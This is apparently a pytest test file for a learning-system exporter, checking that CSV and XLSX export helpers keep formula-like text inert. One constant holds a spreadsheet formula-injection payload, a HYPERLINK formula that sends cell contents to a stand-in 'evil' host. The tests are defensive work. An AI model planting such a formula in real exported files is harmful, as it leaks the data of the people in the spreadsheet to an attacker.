"""The shared cell helper every CSV/XLSX export uses: text that could start a formula stays text."""

from __future__ import annotations

import csv
import io
from datetime import date

import openpyxl
import pytest

from lms_bridge.exporters.cells import FORMULA_STARTS, csv_row, csv_writer, xlsx_row

ATTACK = '=HYPERLINK("http://evil/?leak="&B2&C2,"x")'


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_csv_prefixes_a_quote_and_quotes_the_field(start: str) -> None:
    buf = io.StringIO()
    csv_writer(buf, delimiter=";").writerow(csv_row([f"{start}1+1", "школа", 5, -3]))
    assert buf.getvalue() == f'"\'{start}1+1";"школа";"5";"-3"\r\n'
    [row] = list(csv.reader(io.StringIO(buf.getvalue(), newline=""), delimiter=";"))
    assert row[0] == f"'{start}1+1"


@pytest.mark.parametrize("write_only", [False, True])
def test_xlsx_text_is_a_string_cell_in_both_workbook_modes(write_only: bool) -> None:
    wb = openpyxl.Workbook(write_only=write_only)
    ws = wb.create_sheet("x") if write_only else wb.active
    assert ws is not None
    ws.append(xlsx_row(ws, [ATTACK, "@A1", 7, date(2026, 1, 2), None]))
    out = io.BytesIO()
    wb.save(out)
    back = openpyxl.load_workbook(io.BytesIO(out.getvalue()))
    cells = next(iter(back.worksheets[0].iter_rows(values_only=False)))
    assert [(c.value, c.data_type) for c in cells[:3]] == [(ATTACK, "s"), ("@A1", "s"), (7, "n")]
